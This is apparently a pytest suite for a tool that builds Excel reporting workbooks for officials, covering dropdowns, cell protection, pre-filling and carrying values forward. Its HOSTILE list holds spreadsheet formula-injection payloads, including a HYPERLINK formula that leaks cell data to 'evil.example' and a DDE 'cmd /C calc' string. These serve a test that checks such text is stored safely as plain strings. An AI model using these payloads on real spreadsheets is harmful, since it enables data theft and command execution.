"""write_template: the workbook officials see, its dropdowns, limits, protection and pre-filling."""

from __future__ import annotations

import hashlib
import math
import zipfile
from datetime import datetime
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from workbook_support import HERE, PERIOD, ROWS, TODAY, check, fill, keys

from readiness.inputs.values import Values, make_table
from readiness.problems import ReadinessError
from readiness.rubric import load_rubric, parse_rubric
from readiness.rubric.model import Rubric
from readiness.workbook import layout as L
from readiness.workbook import read_values, write_template
from readiness.workbook.raw import open_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


def values_sheet_xml(path: Path) -> str:
    with open_workbook(path) as book:
        part = book.sheet_paths[L.VALUES]
    with zipfile.ZipFile(path) as z:
        return z.read(part).decode("utf-8")


def sample_values(rubric: Rubric) -> Values:
    rows: list[dict[str, object]] = []
    for k, (unit, indicator) in enumerate(ROWS):
        value: float = {"rule_of_law": 50.0 + k, "mining_code": 3.0, "fdi_inflows": 2.5}.get(
            indicator, 0.0
        )
        rows.append(
            {
                "unit": unit,
                "indicator": indicator,
                "value": math.nan if (unit, indicator) == ("UZB", "fdi_inflows") else value,
                "as_of": "2025" if indicator == "rule_of_law" else "2026-06-30",
                "source": HOSTILE[k % len(HOSTILE)],
                "source_url": "https://example.org/source",
                "note": HOSTILE[(k + 1) % len(HOSTILE)],
            }
        )
    return Values(table=make_table(rows), period=PERIOD)


# -- structure ---------------------------------------------------------------------------------


def test_sheets_and_about(template: Path, rubric: Rubric) -> None:
    book = openpyxl.load_workbook(template)
    assert book.sheetnames == ["Instructions", "Values", "Indicators", "Levels", "About"]
    assert [ws.sheet_state for ws in book.worksheets] == ["visible"] * 4 + ["hidden"]
    assert book.security is not None and book.security.lockStructure
    about = {row[0]: row[1] for row in book["About"].iter_rows(values_only=True)}
    assert about["Period"] == PERIOD
    assert about["Rubric id"] == rubric.id
    assert about["Rubric version"] == rubric.version
    instructions = "\n".join(str(r[0]) for r in book["Instructions"].iter_rows(values_only=True))
    assert "Reporting period: 2026-Q4 (ending 31 December 2026)" in instructions
    assert "Rubric: test-c3, version 1.2" in instructions
    for words in ("As-of date", "Source URL", "Evidence note", "drop-down", "send it"):
        assert words in instructions


def test_values_rows_grouped_by_pillar(template: Path) -> None:
    ws = openpyxl.load_workbook(template)["Values"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == L.HEADERS
    assert [(r[0], r[3]) for r in rows[1:]] == list(ROWS)
    assert rows[1][:6] == (
        "KAZ",
        "Kazakhstan",
        "Legal clarity",
        "rule_of_law",
        "Rule of law",
        "percentile rank, 0 to 100",
    )
    assert rows[4][5] == "none / amended / modern / open"
    assert rows[7][5] == "% of GDP, at least -100"
    assert rows[10][5] == "no / yes"
    assert all(v is None for r in rows[1:] for v in r[6:])


def test_dropdowns_limits_and_date_validation(template: Path) -> None:
    book = openpyxl.load_workbook(template)
    rules = {
        str(dv.sqref): (dv.type, dv.operator, dv.formula1, dv.formula2)
        for dv in book["Values"].data_validations.dataValidation
    }
    assert rules == {
        "G2:G4": ("decimal", "between", "0", "100"),
        # Each list: the indicator's levels, then "not found" (missing, not a level)
        "G5:G7": ("list", None, "'Levels'!$D$2:$D$6", None),
        "G8:G10": ("decimal", "greaterThanOrEqual", "-100", None),
        "G11:G13": ("list", None, "'Levels'!$D$7:$D$9", None),
        "H2:H13": ("date", "between", "18264", "73050"),  # 1950-01-01 to 2099-12-31
        # Contested: a yes-or-empty list on the rows with levels only
        "N5:N7": ("list", None, '"yes"', None),
        "N11:N13": ("list", None, '"yes"', None),
    }
    for dv in book["Values"].data_validations.dataValidation:
        assert dv.showErrorMessage and dv.allow_blank
    levels = book["Levels"]
    assert [c.value for c in levels["D"][1:6]] == ["none", "amended", "modern", "open", "not found"]
    assert [c.value for c in levels["D"][6:9]] == ["no", "yes", "not found"]
    assert [c.value for c in levels["C"][1:6]] == [0, 1, 2, 3, None]
    assert levels["E6"].value.startswith("Not a level: the evidence could not be found.")
    assert levels["E3"].value == "Older law with later amendments."
    assert levels["A2"].value == "mining_code"


def test_protection_locked_and_input_cells(template: Path) -> None:
    book = openpyxl.load_workbook(template)
    for ws in book.worksheets:
        assert ws.protection.sheet, ws.title
        assert not ws.protection.password, ws.title
    ws = book["Values"]
    assert ws.freeze_panes == "F2"
    assert ws.auto_filter.ref == "A1:N13"
    assert not ws.protection.autoFilter  # filtering stays allowed
    numeric_rows = {2, 3, 4, 8, 9, 10}  # rule_of_law and fdi; the others have levels
    for row in ws.iter_rows(min_row=1, max_row=13):
        for cell in row:
            # Low/High (L, M) open on numeric rows, Contested (N) on rows with levels
            optional = "LM" if cell.row in numeric_rows else "N"
            is_input = cell.row > 1 and cell.column_letter in "GHIJK" + optional
            assert cell.protection.locked is not is_input, cell.coordinate
            if is_input:
                assert cell.fill.fgColor.rgb.endswith(L.INPUT_FILL)
    assert ws["H2"].number_format == L.DATE_FORMAT
    assert ws["K2"].number_format == "@"  # typed text stays text, even "=..."
    widths = {c: ws.column_dimensions[c].width for c in "AEK"}
    assert widths == {"A": 9, "E": 34, "K": 48}


# -- pre-filling and carrying forward ------------------------------------------------------------


def test_prefill_from_values_round_trips(tmp_path: Path, rubric: Rubric) -> None:
    values = sample_values(rubric)
    path = tmp_path / "prefilled.xlsx"
    write_template(rubric, PERIOD, path, values=values)
    ws = openpyxl.load_workbook(path)["Values"]
    assert ws["G5"].value == "open"  # categorical written as its label
    assert ws["G11"].value == "no"
    assert ws["H5"].is_date and ws["H5"].value == datetime(2026, 6, 30)  # a real Excel date
    assert ws["H2"].value == "2025" and ws["H2"].data_type == "s"  # a year stays text
    assert ws["G10"].value is None  # missing stays empty
    report = check(path, rubric)
    assert keys(report) == [(f"{path}!Values!G10", "missing-value")]
    read = read_values(path, rubric, today=TODAY).table
    expected = values.table
    assert list(read["unit"]) == list(expected["unit"])
    np.testing.assert_array_equal(read["value"].to_numpy(), expected["value"].to_numpy())
    for column in ("as_of", "source", "source_url", "note"):
        assert list(read[column]) == list(expected[column]), column


def test_prefill_writes_interval_and_contested(tmp_path: Path, rubric: Rubric) -> None:
    table = sample_values(rubric).table.copy()
    first = table.index[(table["unit"] == "KAZ") & (table["indicator"] == "rule_of_law")][0]
    level = table.index[(table["unit"] == "KAZ") & (table["indicator"] == "mining_code")][0]
    table.loc[first, ["low", "high"]] = [45.0, 55.0]  # around the value 50.0
    table.loc[level, "contested"] = True
    path = tmp_path / "prefilled.xlsx"
    write_template(rubric, PERIOD, path, values=Values(table=table, period=PERIOD))
    ws = openpyxl.load_workbook(path)["Values"]
    assert (ws["L2"].value, ws["M2"].value, ws["N5"].value) == (45.0, 55.0, "yes")
    assert ws["L3"].value is None and ws["N6"].value is None
    read = read_values(path, rubric, today=TODAY).table.set_index(["unit", "indicator"])
    assert read.loc[("KAZ", "rule_of_law"), "high"] == 55.0
    assert bool(read.loc[("KAZ", "mining_code"), "contested"]) is True


def test_hostile_text_is_never_a_formula(tmp_path: Path, rubric: Rubric) -> None:
    path = tmp_path / "hostile.xlsx"
    write_template(rubric, PERIOD, path, values=sample_values(rubric))
    xml = values_sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    ws = openpyxl.load_workbook(path)["Values"]
    assert ws["I2"].value == HOSTILE[0] and ws["I2"].data_type == "s"
    assert ws["K2"].value == HOSTILE[1] and ws["K2"].data_type == "s"
    read = read_values(path, rubric, today=TODAY).table
    assert read["source"].iloc[0] == HOSTILE[0]


def test_carry_forward_from_previous_workbook(tmp_path: Path, rubric: Rubric) -> None:
    q3 = tmp_path / "2026-Q3.xlsx"
    write_template(rubric, "2026-Q3", q3)
    book = openpyxl.load_workbook(q3)
    fill(book["Values"])
    book["Values"]["K3"] = "Checked in September."
    book["Values"]["K3"].data_type = "s"
    book["Values"]["G5"] = "amended"
    book["Values"]["L2"], book["Values"]["M2"] = 40.0, 51.0  # an interval around 45.5
    book["Values"]["N5"] = "yes"  # a contested reading
    book.save(q3)

    q4 = tmp_path / "2026-Q4.xlsx"
    write_template(rubric, "2026-Q4", q4, previous=q3)
    book = openpyxl.load_workbook(q4)
    ws = book["Values"]
    assert ws["K3"].value == "Checked in September."
    assert ws["G5"].value == "amended"
    assert ws["G2"].value == 45.5
    assert ws["H2"].value == datetime(2025, 12, 31)
    assert (ws["L2"].value, ws["M2"].value, ws["N5"].value) == (40.0, 51.0, "yes")
    about = {row[0]: row[1] for row in book["About"].iter_rows(values_only=True)}
    assert about["Period"] == "2026-Q4"
    assert keys(check(q4, rubric, period="2026-Q4")) == []


def test_previous_from_a_later_period_is_refused(tmp_path: Path, rubric: Rubric) -> None:
    """Carrying 2026-Q4 figures back into 2026-Q1 would date them before their publication."""
    q4 = tmp_path / "2026-Q4.xlsx"
    write_template(rubric, "2026-Q4", q4)
    target = tmp_path / "2026-Q1.xlsx"
    with pytest.raises(ReadinessError) as info:
        write_template(rubric, "2026-Q1", target, previous=q4)
    assert [p.key() for p in info.value.problems] == [(f"{q4}!About", "previous-is-later")]
    assert not target.exists()
    write_template(rubric, "2026-Q4", target, previous=q4)  # the same period is fine


def test_values_win_over_previous(tmp_path: Path, rubric: Rubric) -> None:
    q3 = tmp_path / "q3.xlsx"
    write_template(rubric, "2026-Q3", q3)
    book = openpyxl.load_workbook(q3)
    fill(book["Values"])
    book.save(q3)
    q4 = tmp_path / "q4.xlsx"
    write_template(rubric, PERIOD, q4, previous=q3, values=sample_values(rubric))
    ws = openpyxl.load_workbook(q4)["Values"]
    assert ws["G2"].value == 50.0  # from values
    assert ws["G5"].value == "open"


# -- user errors ---------------------------------------------------------------------------------


def test_malformed_period(tmp_path: Path, rubric: Rubric) -> None:
    with pytest.raises(ReadinessError) as err:
        write_template(rubric, "2026-Q5", tmp_path / "x.xlsx")
    assert [p.code for p in err.value.problems] == ["bad-period"]
    assert not (tmp_path / "x.xlsx").exists()


def test_rubric_without_units_needs_values(tmp_path: Path) -> None:
    text = (HERE / "rubric.yaml").read_text(encoding="utf-8")
    start, end = text.index("units:"), text.index("nodes:")
    rubric = parse_rubric(text[:start] + text[end:])
    with pytest.raises(ReadinessError) as err:
        write_template(rubric, PERIOD, tmp_path / "x.xlsx")
    assert [p.code for p in err.value.problems] == ["no-units"]
    path = tmp_path / "y.xlsx"
    write_template(rubric, PERIOD, path, values=sample_values(load_rubric(HERE / "rubric.yaml")))
    rows = list(openpyxl.load_workbook(path)["Values"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows[:3]] == ["KAZ", "KGZ", "UZB"]


@pytest.mark.parametrize("content", [None, b"not a workbook"], ids=["missing", "garbage"])
def test_unreadable_previous_workbook(
    tmp_path: Path, rubric: Rubric, content: bytes | None
) -> None:
    previous = tmp_path / "previous.xlsx"
    if content is not None:
        previous.write_bytes(content)
    with pytest.raises(ReadinessError) as err:
        write_template(rubric, PERIOD, tmp_path / "x.xlsx", previous=previous)
    code = "file-not-found" if content is None else "workbook-unreadable"
    assert [p.key() for p in err.value.problems] == [(str(previous), code)]


def test_output_is_deterministic_and_atomic(tmp_path: Path, rubric: Rubric) -> None:
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    write_template(rubric, PERIOD, a)
    write_template(rubric, PERIOD, b)
    digest = [hashlib.sha256(p.read_bytes()).hexdigest() for p in (a, b)]
    assert digest[0] == digest[1]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.xlsx", "b.xlsx"]


def test_shipped_rubric_template(tmp_path: Path) -> None:
    shipped = HERE.parents[1] / "rubrics" / "c5-critical-minerals.yaml"
    if not shipped.exists():
        pytest.skip("shipped rubric not written yet")
    try:
        rubric = load_rubric(shipped)
    except ReadinessError:
        pytest.skip("shipped rubric does not load yet")
    path = tmp_path / "c5.xlsx"
    write_template(rubric, "2026-Q4", path)
    report = check(path, rubric, period="2026-Q4")
    assert {p.code for p in report.problems} == {"missing-value"}
    assessed = [u for u in rubric.units if u.id not in rubric.reference_units]
    assert len(report.problems) == len(assessed) * len(rubric.indicators)
